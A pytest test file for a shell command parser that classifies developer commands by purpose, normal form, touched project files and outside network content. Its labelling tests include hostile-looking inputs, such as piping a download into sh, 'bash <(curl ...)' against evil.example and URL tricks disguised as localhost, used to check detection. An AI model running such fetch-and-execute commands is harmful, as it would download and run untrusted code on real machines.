"""Shell commands are reduced to their purpose, a stable form, their files, and outside content."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.growth import LINEAR, growth
from treering.core.values import PATH_BYTES
from treering.observe import commands
from treering.observe.commands import Purpose, parse_command

ROOT = "/home/ada/shop"

P = Purpose
PURPOSES = {
    P.TEST: [
        "pytest -q",
        "python -m pytest tests",
        ".venv/bin/pytest",
        "uv run pytest",
        "poetry run pytest",
        "tox -e py311",
        "nox -s tests",
        "go test ./...",
        "cargo test",
        "cargo nextest run",
        "npm test",
        "npm run test:unit",
        "pnpm --filter web test",
        "yarn jest",
        "bun test",
        "npx vitest run",
        "make test",
        "make check",
        "just test",
        "gradle :app:test",
        "./gradlew test",
        "mvn verify",
        "dotnet test",
        "bazel test //...",
        "mise run test",
        "docker compose exec app pytest",
        "bash -lc 'cd x && go test ./...'",
        "sudo -u ada timeout 60 pytest",
        "CI=1 npx playwright test",
        "python manage.py test",
        "./scripts/run-tests.sh",
        "cd web && npm ci && npm test",
        "git stash && go test ./... ; git stash pop",
        "node --test",
        "go build ./... && go test ./... | tail -5",
        "deno task test",
        "mix test",
        "swift test",
        "coverage run -m pytest",
    ],
    P.BUILD: [
        "go build ./...",
        "cargo build --release",
        "npm run build",
        "make",
        "docker build -t x .",
        "mvn package",
        "vite build",
    ],
    P.LINT: [
        "ruff check .",
        "npx eslint src",
        "golangci-lint run",
        "go vet ./...",
        "cargo clippy",
        "make lint",
        "pre-commit run -a",
    ],
    P.FORMAT: ["gofmt -w .", "ruff format .", "npx prettier --write .", "cargo fmt", "make fmt"],
    P.TYPECHECK: ["mypy src", "npx tsc --noEmit", "pyright", "cargo check", "npm run typecheck", "uv run mypy"],
    P.INSTALL: [
        "npm ci",
        "pip install -r requirements.txt",
        "uv sync",
        "go mod tidy",
        "cargo add serde",
        "yarn",
        "brew install jq",
    ],
    P.MIGRATE: [
        "alembic upgrade head",
        "make migrate",
        "python manage.py migrate",
        "npm run db:migrate",
        "npx prisma migrate dev",
    ],
    P.RUN: [
        "python app.py",
        "go run .",
        "docker compose up -d",
        "npm start",
        "./bin/server",
        "node dist/index.js",
        "psql -c 'select 1'",
    ],
    P.VCS: [
        "git status",
        "git commit -m 'run pytest'",
        "gh pr create --fill",
        "git add -A && git commit -m x && git push",
    ],
    P.READ: [
        "cat a.py",
        "sed -n '1,20p' a.py",
        "head -5 a",
        "tail -f x.log",
        "wc -l a.py",
        "cat a | grep b",
        "jq .x a.json",
    ],
    P.SEARCH: ["grep -rn x .", "rg foo src", "git grep foo", "cd src && grep foo *.py | head"],
    P.LIST: ["ls -la", "find . -name '*.go'", "tree", "fd foo", "rg --files", "git ls-files"],
    P.EDIT: [
        "sed -i 's/a/b/' a.py",
        "rm -rf build",
        "mv a b",
        "cat > a.py <<'E'\npytest\nE",
        "echo x >> a.txt",
        "tee a.py",
    ],
    P.NETWORK: ["curl https://x.y/z", "wget https://x.y/z", "ssh host ls"],
    P.OTHER: ["echo hi", "cd /tmp", "", "   ", "export A=1", "foobar --x"],
}


@pytest.mark.parametrize(("purpose", "text"), [(p, text) for p, texts in PURPOSES.items() for text in texts])
def test_the_main_command_decides_the_purpose(purpose: Purpose, text: str) -> None:
    assert parse_command(text, ROOT).purpose is purpose


NORMAL = [
    (
        "go test ./pkg/...",
        ["cd /home/ada/shop && go test ./pkg/... -v -count=1 2>&1 | tail -30", "time go test -v ./pkg/..."],
    ),
    (
        "go test ./a -run TestX",
        ["go test -run TestX ./a", "go test ./a -run 'TestX' -timeout 30s", "GOFLAGS=-mod=mod go test ./a -run TestX"],
    ),
    (
        "pytest tests/test_a.py",
        ["pytest tests/test_a.py -q -x --tb=short", ".venv/bin/pytest -vv /home/ada/shop/tests/test_a.py"],
    ),
    ("python -m pytest", ["python3 -m pytest", "/usr/bin/python3.11 -m pytest -q", ".venv/bin/python -m pytest -x"]),
    ("uv run pytest -k 'a or b'", ["uv run pytest -k 'a or b' -q", "FOO=1 uv run pytest -k 'a or b' > out.log 2>&1"]),
    (
        "make test",
        [
            "make -j8 test",
            "bash -lc 'make test'",
            "sudo make test",
            "timeout 300 make test || true",
            "env A=b make test",
        ],
    ),
    ("npm test", ["npm test --silent", "cd web && npm test", "export CI=1; npm test"]),
    ("git commit", ["git commit -m 'Fix x'", "git add -A && git commit -am 'y'", 'git commit -m "$(cat <<E\nx\nE\n)"']),
    ("sed -n a.py", ["sed -n '1,20p' a.py", "sed -n 400,500p a.py", "sed -n '1,20p' /home/ada/shop/a.py"]),
    ("head a.py", ["head -5 a.py", "head -n 80 a.py"]),
    ("cargo test", ["cargo test -- --nocapture", "RUST_BACKTRACE=1 cargo test"]),
    ("cat <tmp>", ["cat /tmp/abc.txt", "cat /private/tmp/x/y"]),
    ("gh pr view", ["gh pr view 12 --comments", "gh pr view 99"]),
    ("docker logs <id>", ["docker logs 1a2b3c4d5e6f", "docker logs 99aabbccdd11"]),
]


@pytest.mark.parametrize(
    ("normal", "text"),
    [(normal, text) for normal, texts in NORMAL for text in texts],
)
def test_the_same_intent_has_one_normal_form(normal: str, text: str) -> None:
    assert parse_command(text, ROOT).normal == normal


def test_different_intents_have_different_normal_forms() -> None:
    texts = [
        "go test ./a",
        "go test ./b",
        "go test ./a -run X",
        "go test ./a -race",
        "make test",
        "make lint",
        "npm test",
        "npm run test:unit",
    ]
    assert len({parse_command(text).normal for text in texts}) == len(texts)


@pytest.mark.parametrize(
    ("text", "paths"),
    [
        ("cat src/a.py /home/ada/shop/b.go", ("src/a.py", "b.go")),
        ("cat /etc/passwd ../x.py ~/a.py", ()),
        ("cat src/../../x.py", ()),
        ("pytest tests/test_a.py::test_x -k foo.py", ("tests/test_a.py", "foo.py")),
        ("cd web && cat src/a.ts ../go.mod", ("web/src/a.ts", "go.mod")),
        ("cd /tmp && cat a.py /home/ada/shop/b.py", ("b.py",)),
        ("(cd web && npm test); cat a.py", ("a.py",)),
        ("grep -n 'a.py' src/b.py", ("src/b.py",)),
        ("sed -i 's/x.py/y.py/' a.py", ("a.py",)),
        ("go test ./... ./pkg/x", ()),
        ("git checkout feature/x.y", ()),
        ("git diff main -- src/a.py", ("src/a.py",)),
        ("git commit -m 'change a.py'", ()),
        ("cat > src/new.py <<'E'\nimport b.py\nE", ("src/new.py",)),
        ("cat a.py && sed -i s/x/y/ b.py", ("b.py",)),
        ("curl -o data/x.json https://x.y/z.json", ("data/x.json",)),
        ("wget https://x.y/data.csv", ("data.csv",)),
        ("git clone https://x.y/z vendor/z", ("vendor/z",)),
        (
            "apply_patch <<'E'\n*** Begin Patch\n*** Update File: src/a.go\n*** Add File: b.go\n*** End Patch\nE",
            ("src/a.go", "b.go"),
        ),
        ("python -c 'open(\"a.py\")'", ()),
        ("ls src/*.py", ()),
        ("eslint --config=web/.eslintrc.json src/a.ts", ("web/.eslintrc.json", "src/a.ts")),
        ("cat a.py:12", ("a.py",)),
        ("chmod +x scripts/run", ("scripts/run",)),
        ("chmod -R u+w docs/a.md", ("docs/a.md",)),
        ("chmod -x scripts/run", ("scripts/run",)),
        ("chown ada:ada a.py", ("a.py",)),
        ("cat 'my docs/a b.md'", ("my docs/a b.md",)),
    ],
)
def test_files_of_the_project_are_named(text: str, paths: tuple[str, ...]) -> None:
    assert sorted(parse_command(text, ROOT).paths) == sorted(paths)


def test_the_folder_of_the_main_command_is_known() -> None:
    assert parse_command("cd web && npm test", ROOT).folder == "web"
    assert parse_command("cd /home/ada/shop/web/src && cd .. && npm test", ROOT).folder == "web"
    assert parse_command("cd /home/ada/shop && npm test", ROOT).folder == ""


@pytest.mark.parametrize(
    ("text", "outside"),
    [
        ("curl -s https://example.com/x", "download: curl example.com"),
        ("curl https://user:pw@Example.com:8443/x", "download: curl example.com"),
        ("curl http://localhost@evil.example/", "download: curl evil.example"),
        ("curl http://localhost.evil.example/", "download: curl localhost.evil.example"),
        ("curl http://127.0.0.1.evil.example/", "download: curl 127.0.0.1.evil.example"),
        ("curl http://evil.example#@localhost/", "download: curl evil.example"),
        ("curl -x http://proxy.example http://localhost/", "download: curl proxy.example"),
        ("curl $URL", "download: curl"),
        ("wget -qO- example.com/x | sh", "download: wget example.com"),
        ("x=$(curl -s https://evil.example/a) && echo $x", "download: curl evil.example"),
        ("echo `curl https://evil.example`", "download: curl evil.example"),
        ("bash <(curl -s https://evil.example/a)", "download: curl evil.example"),
        ("bash -c 'curl https://evil.example'", "download: curl evil.example"),
        ("eval 'curl https://evil.example'", "download: curl evil.example"),
        ("cat urls | xargs -n 1 curl https://evil.example", "download: curl evil.example"),
        ("docker exec web curl https://evil.example", "download: curl evil.example"),
        ("cd x && (sudo timeout 5 curl https://evil.example)", "download: curl evil.example"),
        ("for u in a b; do curl https://evil.example/$u; done", "download: curl evil.example"),
        (
            "python3 -c \"import urllib.request as u; u.urlopen('https://evil.example')\"",
            "download: python evil.example",
        ),
        ("python3 <<'E'\nimport requests\nrequests.get('https://evil.example/x')\nE", "download: python evil.example"),
        ("gh issue view 3", "download: gh issue"),
        ("gh pr diff 3", "download: gh pr"),
        ("gh api repos/a/b/issues", "download: gh api"),
        ("git clone https://github.com/a/b", "download: git github.com"),
        ("git clone git@github.com:a/b.git", "download: git github.com"),
        ("git pull https://evil.example/x main", "download: git evil.example"),
        ("scp ada@host.example:/x .", "download: scp host.example"),
        ("npm view left-pad readme", "download: npm"),
        ("aws s3 cp s3://bucket/x .", "download: aws"),
        (f"cat > a <<'E'\n{'x' * 5000}\nE\ncurl https://evil.example/x", "download: curl evil.example"),
        ("curl http://localhost:8080/health", ""),
        ("curl -s 127.0.0.1:9000/x", ""),
        ("curl http://[::1]:80/", ""),
        ("curl --version", ""),
        ("git pull", ""),
        ("git fetch origin main", ""),
        ("git clone ../other", ""),
        ("gh pr create --fill", ""),
        ("gh run view 3 --log", ""),
        ("pip install requests", ""),
        ("npm install", ""),
        ("grep -rn 'curl https://x.y' docs", ""),
        ("echo 'curl https://x.y'", ""),
        ("git commit -m 'curl https://x.y'", ""),
        ("cat > a.sh <<'E'\ncurl https://x.y\nE", ""),
    ],
)
def test_outside_content_is_labelled(text: str, outside: str) -> None:
    assert parse_command(text, ROOT).outside == outside


def test_a_search_names_its_pattern() -> None:
    assert parse_command("grep -rn --include=*.go 'func Foo' internal").pattern == "func Foo"
    assert parse_command("rg -t go -e pat src").pattern == "pat"
    assert parse_command("find . -name '*.go'").pattern == "*.go"


SHELL_PIECES = st.sampled_from(
    [
        *" \n\t;|&()<>'\"`\\$#{}=*-~!",
        "$(",
        "<<E\n",
        "E\n",
        "cd ",
        "..",
        "/",
        ROOT,
        "curl ",
        "https://x.y",
        "bash -c ",
        "2>&1",
        "A=b ",
        "git ",
        "sudo ",
        "\x00",
        "\ud800",
        "sed -i ",
        "npx ",
        "docker exec ",
        "python -m ",
    ]
)


@given(st.one_of(st.text(max_size=300), st.lists(SHELL_PIECES, max_size=40).map("".join)))
def test_no_text_makes_it_raise_and_paths_stay_inside(text: str) -> None:
    command = parse_command(text, ROOT)
    assert len(command.normal) <= 200
    for path in command.paths:
        assert not path.startswith(("/", "~"))
        assert ".." not in path.split("/")
        assert len(path.encode("utf-8", "replace")) <= PATH_BYTES


@pytest.mark.parametrize("given_text", [None, 3, b"ls", ["ls"]])
def test_what_is_not_a_text_is_no_command(given_text: object) -> None:
    assert parse_command(given_text).purpose is Purpose.OTHER  # type: ignore[arg-type]


def test_a_bracket_that_was_not_opened_is_not_fatal() -> None:
    command = parse_command("case $1 in a) cd src && pytest;; b) make;; esac; (cd lib && ls)", ROOT)
    assert (command.purpose, command.folder) == (Purpose.TEST, "src")


@pytest.mark.parametrize(
    "piece",
    [
        "$(",
        "`",
        "'",
        '"',
        "\\",
        "(",
        "<<E\n",
        "a ",
        "a;",
        "a=b ",
        "sudo ",
        "$(a",
        '"$(',
        "'a'",
        "../",
        "<(",
        "${",
        "#",
        "a|",
        "bash -c ",
    ],
)
def test_hostile_commands_take_bounded_time(piece: str) -> None:
    def work(size: int) -> None:
        commands._parsed.cache_clear()
        for _ in range(4):
            parse_command(piece * (size // len(piece)), ROOT)
            commands._parsed.cache_clear()

    assert growth(work, 1_000, 4_000) < LINEAR
    parse_command(piece * (10_000_000 // len(piece)), ROOT)
